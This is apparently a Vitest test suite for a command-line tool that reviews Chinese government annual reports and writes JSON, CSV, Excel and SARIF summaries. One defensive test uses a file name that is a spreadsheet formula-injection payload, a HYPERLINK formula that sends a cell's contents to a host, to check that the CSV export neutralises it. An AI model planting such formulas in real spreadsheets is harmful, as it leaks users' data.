// `nianbao review DIR…` on a fictional district: every file checked, the cross-year pairs found
// exactly, every planted error (cross-year ones included) reported and nothing else, and the
// CSV and Excel summaries holding the same figures as the per-file JSON.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { JsonResult } from '../../grammar/src/index.js';
import { nianbaoIn } from '../fixtures/cli.js';
import { type District, district, writeDistrict } from '../fixtures/generator/district.js';
import { FIGURE_LABELS } from '../fixtures/generator/unknown-cells.js';

const root = path.resolve(import.meta.dirname, '../..');
// The folders reviewed are elsewhere: tsx is loaded by its full path.
const tsx = import.meta.resolve('tsx');
const nianbao = nianbaoIn;

/** Parses CSV as Excel writes and reads it (quoted cells, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [],
    cell = '',
    quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

/** The key figures as the reviewer reads them off the JSON tables ("—": a part is unknown). */
function figures(r: JsonResult): Array<number | string> {
  const add = (...xs: Array<number | null | undefined>) =>
    xs.every((x): x is number => typeof x === 'number') ? xs.reduce((a, b) => a + b, 0) : null;
  const { t2, t3, t4 } = r.tables;
  return [
    t2 ? add(t2[0], t2[3]) : null,
    t2 ? add(t2[1], t2[4]) : null,
    t2 ? add(t2[2], t2[5]) : null,
    t3?.[0][6] ?? null,
    t3?.[1][6] ?? null,
    t3?.[23][6] ?? null,
    t3?.[24][6] ?? null,
    t4?.[4] ?? null,
    t4?.[9] ?? null,
    t4?.[14] ?? null,
  ].map((v) => v ?? '—');
}

const FIGURE_HEADERS = FIGURE_LABELS;
const HEADERS = [
  '文件',
  '机关',
  '年度',
  '格式',
  '状态',
  '错误',
  '警告',
  '提示',
  ...FIGURE_HEADERS,
  '主要问题',
  '无法读取的数字',
  '已核实',
];

describe('nianbao review', () => {
  let dir: string;
  let d: District;
  let run: ReturnType<typeof nianbao>;
  let json: JsonResult[];
  const BROKEN = path.join('2024', '损坏的报告.docx');

  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'nianbao-review-'));
    // A few hundred reports: 110 bodies, every 7th with this year's report only.
    d = district({ bodies: 110 });
    await writeDistrict(dir, d);
    fs.writeFileSync(path.join(dir, BROKEN), 'PK\u0003\u0004 这不是一个完整的 Word 文件');
    fs.mkdirSync(path.join(dir, 'out'));
    run = nianbao(
      ['review', '--format', 'json', '--summary', 'out/r.csv', '--summary', 'out/r.xlsx', '2023', '2024'],
      dir,
    );
    if (run.code !== 2 || !run.out) throw new Error(`review failed (${run.code}): ${run.err}`);
    json = JSON.parse(run.out);
  }, 300000);

  it('checks every file; the one unreadable file is said on stderr and the exit status is 2', () => {
    expect(run.err.trim().split('\n')).toEqual([
      expect.stringMatching(/^nianbao：2024\/损坏的报告\.docx：.+/),
    ]);
    expect(run.code).toBe(2);
    const files = d.reports.map((g) => g.file);
    // Sorted per folder, in the order the folders were given.
    const order = [
      ...files.filter((f) => f.startsWith('2023/')).sort(),
      ...files.filter((f) => f.startsWith('2024/')).sort(),
    ];
    expect(json.map((r) => r.file)).toEqual(order);
  });

  it('reports every planted error, cross-year ones included, and nothing else', () => {
    const byFile = new Map(json.map((r) => [r.file, r]));
    const cross = ['carryover-mismatch', 'stock-mismatch', 'prose-copied'];
    for (const g of d.reports) {
      const r = byFile.get(g.file)!;
      expect([...new Set(r.findings.map((f) => f.ruleId))].sort(), g.file).toEqual(g.expected);
    }
    // Each kind of cross-year error is planted more than once.
    for (const rule of cross)
      expect(d.reports.filter((g) => g.expected.includes(rule)).length, rule).toBeGreaterThanOrEqual(2);
    // Each cross-year finding as a user reads it, on this year's report.
    const carry = d.reports.find((g) => g.plant === 'carryover')!;
    const f = byFile.get(carry.file)!.findings.find((x) => x.ruleId === 'carryover-mismatch')!;
    const prev = d.pairs.find((p) => p.current === carry.file)!.previous;
    const last = byFile.get(prev)!.tables.t3![24][0];
    expect(f).toMatchObject({
      severity: 'error',
      message: `表三“上年结转”“自然人”为${(last ?? 0) + 3}，但上年报告“结转下年度”为${last}`,
    });
    const copied = d.reports.find((g) => g.plant === 'copied')!;
    expect(byFile.get(copied.file)!.findings).toEqual([
      expect.objectContaining({
        ruleId: 'prose-copied',
        severity: 'warning',
        message: expect.stringContaining('仍把2023年当作本年度（本报告为2024年度报告）'),
      }),
    ]);
  });

  it('the CSV: BOM, a row per report with the JSON figures and counts, the unreadable file marked', () => {
    const raw = fs.readFileSync(path.join(dir, 'out/r.csv'), 'utf8');
    expect(raw.charCodeAt(0)).toBe(0xfeff);
    const [head, ...rows] = parseCsv(raw.slice(1));
    expect(head).toEqual(HEADERS);
    expect(rows).toHaveLength(json.length + 1);
    const byFile = new Map(rows.map((r) => [r[0], r]));
    for (const r of json) {
      const row = byFile.get(r.file)!;
      const g = d.reports.find((x) => x.file === r.file)!;
      expect(row.slice(1, 4)).toEqual([g.body, String(g.year), g.format]);
      const count = (s: string) => String(r.findings.filter((f) => f.severity === s).length);
      expect(row[4]).toBe(
        r.findings.some((f) => f.severity === 'error')
          ? '有错误'
          : r.findings.some((f) => f.severity === 'warning')
            ? '有警告'
            : '无问题',
      );
      expect(row.slice(5, 8)).toEqual([count('error'), count('warning'), count('info')]);
      expect(row.slice(8, 18)).toEqual(figures(r).map(String));
    }
    const broken = byFile.get(BROKEN)!;
    expect(broken[4]).toBe('无法读取');
    expect(broken.slice(8, 18)).toEqual(Array(10).fill(''));
    expect(broken[18]).toMatch(/损坏的报告\.docx/);
  });

  it('the workbook: sheets, headers, frozen rows, filters, figures equal to the JSON, the pairs exactly', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path.join(dir, 'out/r.xlsx'));
    expect(wb.worksheets.map((s) => s.name)).toEqual([
      '报告',
      '问题',
      '表二表三表四',
      '表格合计',
      '跨年度对照',
      '历年情况',
      '排名',
      '关键数字合计',
      '对照说明',
    ]);
    // A file cell is a link to the file: its text is the file's name.
    const values = (name: string) =>
      wb
        .getWorksheet(name)!
        .getSheetValues()
        .slice(1)
        .map((r) =>
          (r as unknown[])
            .slice(1)
            .map((v) =>
              v && typeof v === 'object' && 'hyperlink' in v
                ? (v as unknown as { text: string }).text
                : (v ?? null),
            ),
        );
    for (const s of wb.worksheets) {
      expect(s.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(s.autoFilter).toBeTruthy();
    }
    const reports = values('报告');
    expect(reports[0]).toEqual(HEADERS);
    for (const r of json) {
      const row = reports.find((x) => x[0] === r.file)!;
      expect(row.slice(8, 18)).toEqual(figures(r));
    }
    // Widths fit Chinese text: the longest body name counts two per character.
    const longest = Math.max(...d.reports.map((g) => g.body.length));
    expect(wb.getWorksheet('报告')!.getColumn(2).width).toBeGreaterThanOrEqual(longest * 2);

    const issues = values('问题');
    expect(issues[0]).toEqual(['文件', '机关', '年度', '规则', '级别', '位置', '说明', '建议修改']);
    const total = json.reduce((n, r) => n + r.findings.length, 0);
    expect(issues).toHaveLength(1 + total + 1);
    const copied = d.reports.find((g) => g.plant === 'copied')!;
    const row = issues.find((x) => x[0] === copied.file)!;
    expect(row.slice(1, 5)).toEqual([copied.body, 2024, 'prose-copied', '警告']);
    expect(row[5]).toMatch(/^第\d+行$/);

    // Every cell of each report's tables, as the JSON has them.
    const tables = values('表二表三表四');
    expect(tables[0].slice(0, 4)).toEqual(['机关', '年度', '文件', '表二·规章·本年制发']);
    expect(tables).toHaveLength(json.length + 1);
    for (const r of json) {
      const { t2, t3, t4 } = r.tables;
      const cells = [...(t2 ?? Array(10).fill(null)), ...(t3 ?? []).flat(), ...(t4 ?? Array(15).fill(null))];
      expect(tables.find((x) => x[2] === r.file)!.slice(3), r.file).toEqual(cells.map((v) => v ?? '—'));
    }

    const pairs = values('跨年度对照').slice(1);
    expect(
      pairs
        .map((p) => ({ current: p[4], previous: p[3] }))
        .sort((a, b) => String(a.current).localeCompare(String(b.current))),
    ).toEqual([...d.pairs].sort((a, b) => a.current.localeCompare(b.current)));
  });

  it('off a terminal the text output is the summary line and the three reports with the most problems; on one a progress bar counts the files', () => {
    const plain = nianbao(['review', '2023', '2024'], dir);
    const n = d.reports.length;
    const count = (r: (typeof json)[number], sev: string) =>
      r.findings.filter((f) => f.severity === sev).length;
    const errors = json.reduce((k, r) => k + count(r, 'error'), 0);
    const warnings = json.reduce((k, r) => k + count(r, 'warning'), 0);
    const infos = json.reduce((k, r) => k + count(r, 'info'), 0);
    const lines = plain.out.split('\n');
    expect(lines[0]).toBe(
      `${n} 个文件：${errors} 个错误，${warnings} 个警告${infos ? `，${infos} 个提示` : ''}；1 个文件无法读取；跨年度对照 ${d.pairs.length} 对`,
    );
    expect(lines[1]).toBe('问题最多的报告：');
    const worst = [...json]
      .filter((r) => count(r, 'error') || count(r, 'warning'))
      .sort((a, b) => count(b, 'error') - count(a, 'error') || count(b, 'warning') - count(a, 'warning'));
    // Three lines, each a report with as many errors as the third worst or more, with its counts.
    expect(lines.slice(2, 5)).toHaveLength(3);
    expect(lines[5]).toBe('');
    for (const line of lines.slice(2, 5)) {
      const r = worst.find((w) => line.startsWith(`  ${w.file}`))!;
      expect(r, line).toBeDefined();
      expect(count(r, 'error')).toBeGreaterThanOrEqual(count(worst[2], 'error'));
      expect(line).toContain(`：${count(r, 'error')} 个错误`);
    }
    expect(plain.code).toBe(2);
    // Under a pseudo-terminal (script(1)): the bar, the count of all files, the summary line after it.
    const tty = spawnSync(
      'script',
      [
        '-qefc',
        `${process.execPath} --import ${tsx} ${path.join(root, 'cli/nianbao.ts')} review 2023 2024`,
        '/dev/null',
      ],
      { cwd: dir, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1', COLUMNS: '100' } },
    );
    expect(tty.stdout).toContain(`] ${n + 1}/${n + 1}`);
    expect(tty.stdout).toMatch(/\[█+░*\] \d+\/\d+ {2}\d\d:\d\d {2}\S+\.(txt|md|html|docx)/);
    expect(tty.stdout).toContain(`跨年度对照 ${d.pairs.length} 对`);
  }, 300000);

  it('sarif: one run over the folder, the cross-year findings included', () => {
    const r = nianbao(['review', '--format', 'sarif', '2023', '2024'], dir);
    const sarif = JSON.parse(r.out);
    expect(sarif.runs).toHaveLength(1);
    const results = sarif.runs[0].results as Array<{ ruleId: string }>;
    expect(results.length).toBe(json.reduce((k, x) => k + x.findings.length, 0));
    expect(results.some((x) => x.ruleId === 'carryover-mismatch')).toBe(true);
  }, 120000);

  it('a summary that cannot be written where asked is refused before any report is read, and written ones are named', () => {
    const missing = nianbao(['review', '--summary', '没有的目录/r.html', '2024'], dir);
    expect(missing.code).toBe(2);
    expect(missing.err).toBe('nianbao：汇总文件“没有的目录/r.html”无法写出：所在目录不存在，未审阅\n');
    expect(missing.out).toBe('');
    const ok = nianbao(['review', '--summary', 'out/w.csv', '--summary', 'out/w.html', '2024'], dir);
    expect(ok.out.split('\n').slice(1, 3)).toEqual(['已写出汇总：out/w.csv', '已写出汇总：out/w.html']);
  }, 120000);

  it('a summary file of another kind is a usage error', () => {
    const r = nianbao(['review', '--summary', 'out/r.pdf', '2024'], dir);
    expect(r.code).toBe(2);
    expect(r.err).toBe('nianbao：汇总文件“out/r.pdf”的扩展名应为 .html、.xlsx 或 .csv\n');
    expect(r.out).toBe('');
  });
});

describe('review summaries are safe to open in a spreadsheet', () => {
  it('a file name that is a formula is text in the CSV, never a working link', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'nianbao-csv-'));
    const name = '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"127.0.0.1:9"&B2,"x").txt';
    fs.copyFileSync(path.join(root, 'test/fixtures/example-pipe.txt'), path.join(dir, name));
    fs.copyFileSync(path.join(root, 'test/fixtures/clean-tab.txt'), path.join(dir, '+附件.txt'));
    const r = nianbao(['review', '.', '--summary', 'out.csv'], dir);
    expect(r.code).toBe(1);
    const rows = parseCsv(fs.readFileSync(path.join(dir, 'out.csv'), 'utf8').replace(/^\ufeff/, ''));
    const files = rows.slice(1).map((row) => row[0]);
    expect(files.sort()).toEqual([`'+附件.txt`, `'${name}`].sort());
    // Every cell a spreadsheet would evaluate is neutralised; the figures stay numbers.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[1].slice(8, 11).every((c) => /^\d+$/.test(c))).toBe(true);
  });
});

describe('the workbook holds any text', () => {
  it('a character XML forbids (U+FFFE, a control character) in a label or a name leaves the workbook well-formed', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'nianbao-xml-'));
    const text = fs
      .readFileSync(path.join(root, 'test/fixtures/example-pipe.txt'), 'utf8')
      .replace('行政许可 |', '行政许\uFFFE可 |');
    fs.writeFileSync(path.join(dir, '报告\u0001.txt'), text);
    const r = nianbao(['review', '.', '--summary', 'out.xlsx'], dir);
    expect(r.code).toBe(1);
    const { unzipSync, strFromU8 } = await import('fflate');
    const parts = unzipSync(fs.readFileSync(path.join(dir, 'out.xlsx')));
    const { SaxesParser } = await import('saxes');
    for (const [name, bytes] of Object.entries(parts)) {
      if (!name.endsWith('.xml')) continue;
      const xml = strFromU8(bytes);
      expect(xml, name).not.toMatch(/[\uFFFE\u0001]/);
      const sax = new SaxesParser();
      expect(() => sax.write(xml).close(), name).not.toThrow();
    }
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path.join(dir, 'out.xlsx'));
    const cells = wb.getWorksheet('问题')!.getSheetValues().flat().map(String);
    expect(cells.some((c) => c.includes('行政许\uFFFD可'))).toBe(true);
  });
});

describe("review's own outputs and threads", () => {
  const folder = () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'nianbao-out-'));
    fs.copyFileSync(path.join(root, 'test/fixtures/example-pipe.txt'), path.join(dir, '甲.txt'));
    fs.copyFileSync(path.join(root, 'test/fixtures/clean-tab.txt'), path.join(dir, '乙.txt'));
    return dir;
  };

  it('a summary page left in the folder is not reviewed the next time', () => {
    const dir = folder();
    const first = nianbao(['review', '.', '--summary', '汇总.html'], dir);
    expect(first.out).toMatch(/^2 个文件：/);
    const again = nianbao(['review', '.', '--summary', '汇总.html'], dir);
    expect(again.out).toMatch(/^2 个文件：/);
    expect(nianbao(['check', '.'], dir).out).toMatch(/^2 个文件：/m);
  });

  it('a summary that is one of the reports, or not a regular file, is refused before any work', () => {
    const dir = folder();
    const before = fs.readFileSync(path.join(dir, '甲.txt'));
    fs.renameSync(path.join(dir, '甲.txt'), path.join(dir, '甲.html'));
    fs.writeFileSync(path.join(dir, '甲.html'), before);
    const same = nianbao(['review', '.', '--summary', '甲.html'], dir);
    expect(same.code).toBe(2);
    expect(same.err).toBe('nianbao：汇总文件“甲.html”是被审阅的报告之一，不能覆盖；请换一个文件名\n');
    expect(fs.readFileSync(path.join(dir, '甲.html')).equals(before)).toBe(true);
    spawnSync('mkfifo', [path.join(dir, 'pipe.csv')]);
    const fifo = nianbao(['review', '.', '--summary', 'pipe.csv'], dir);
    expect(fifo.code).toBe(2);
    expect(fifo.err).toBe('nianbao：汇总文件“pipe.csv”已存在且不是普通文件（如目录、命名管道），未审阅\n');
  });

  it('--jobs beyond the processors is capped at the machine, and said', () => {
    const r = nianbao(['review', '.', '--jobs', '256'], folder());
    expect(r.err).toContain(
      `--jobs 256 多于本机的处理器数（${os.availableParallelism()}），按 ${os.availableParallelism()} 个线程检查`,
    );
    expect(r.out).toMatch(/^2 个文件：/);
  });
});
